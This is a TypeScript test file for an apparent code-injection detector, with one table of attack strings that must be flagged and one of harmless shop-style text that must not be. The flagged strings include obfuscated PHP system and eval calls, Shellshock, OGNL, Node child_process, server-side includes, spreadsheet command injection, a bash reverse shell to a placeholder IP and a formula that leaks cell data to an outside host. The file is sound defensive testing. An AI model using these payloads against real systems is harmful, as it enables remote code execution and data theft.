import { describe, expect, it } from 'vitest';
import { wordsFound } from '../testing/words-found.ts';
import { detectCode } from './detect-code.ts';

const words = (text: string) => wordsFound(detectCode, text);

describe('detectCode', () => {
  it.each([
    ['php-tag', '<?php echo 1;'],
    ['php-call', "system('id')"],
    ['php-call', "eval(base64_decode('eA=='))"],
    ['php-call', '1;phpinfo();'],
    ['php-superglobal', 'x=$_POST[1]'],
    ['php-setting', '-d allow_url_include=on'],
    ['code-probe', 'print(int)0xFFF9999-22'],
    ['code-probe', '${@print(md5(31337))}'],
    ['thinkphp', '/index/\\think\\app/invokefunction'],
    ['shellshock', '() { :;}; /bin/bash -c "id"'],
    ['java-runtime', "T(java.lang.Runtime).getRuntime().exec('id')"],
    ['ognl', '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}'],
    ['spring-class-loader', 'class.module.classLoader.resources'],
    ['python-code', "__import__('os').system('id')"],
    ['node-code', "require('child_process').exec('id')"],
    ['server-side-include', '<!--#config errmsg="a"-->'],
    ['server-side-include', '<esi:debug/>'],
    ['spreadsheet-command', "=cmd|' /C calc'!A0"],
    ['php-call', '{${sleep(9)}}'],
    ['server-side-include', '<!--#exec cmd="ls" -->'],
    ['reverse-shell', 'bash >& /dev/tcp/192.0.2.1/4444'],
    ['php-call', "(system)('id')"],
    ['php-call', "('sys'.'tem')('id')"],
    ['php-call', "include('http://192.0.2.7/x')"],
    ['php-magic-method', '__construct'],
    ['code-probe', 'print(123456789012345678-98765432109876);'],
    ['code-probe', '${@print(chr(122).chr(97))}'],
    ['asp-tag', '<%eval request("a")%>'],
    ['python-code', "open('/x').read()"],
    ['node-code', 'process.env.KEY'],
    ['node-code', "this.constructor.constructor('return process')().env"],
    ['node-code', 'process["env"]'],
    ['windows-script', 'Process.Start("calc")'],
    ['php-call', "$__['o'](5)"],
    ['php-call', "${'a'}(11)"],
    ['php-call', '$$b(2)'],
    ['php-call', '$o->$m()'],
    ['php-call', '$f(101).$f(120)'],
    ['php-call', "$a='sys'.'tem';$a('id')"],
    ['php-call', "(sy.(st).em)('uname')"],
    ['php-call', '[system]/* */[0](ls)'],
    ['php-call', "usort($_GET,'system')"],
    ['php-call', "register_shutdown_function('system','id')"],
    ['perl-code', "@{[ system 'id' ]}"],
    ['spreadsheet-formula', '=HYPERLINK("http://a.example/?x="&A1,"b")'],
    ['lua-code', 'os.execute("id")'],
    ['ruby-code', 'Process.spawn("id")'],
  ])('finds %s in %s', (why, text) => {
    expect(words(text)).toContain(why);
  });

  it.each([
    'システムキッチン system',
    'system (M)',
    'exec chair',
    'print',
    'echo dot',
    'die cast',
    'exit(2)',
    'eval',
    '印刷 print(1)',
    'art print (30-40cm)',
    'exit (10-20)',
    'batteries not include (2)',
    'a subprocess. The next one',
    'process.environment',
    '() {',
    'Node.js process.env explained',
    'A$AP(2012)',
    '$99(税込)',
    '${name}(5)',
    '${product.name}(red)',
    '(red)(XL)',
    '[text][0]',
    "translate('system')",
    '@{name}',
    '=5+3',
  ])('leaves %s alone', (text) => {
    expect(words(text)).toEqual([]);
  });
});
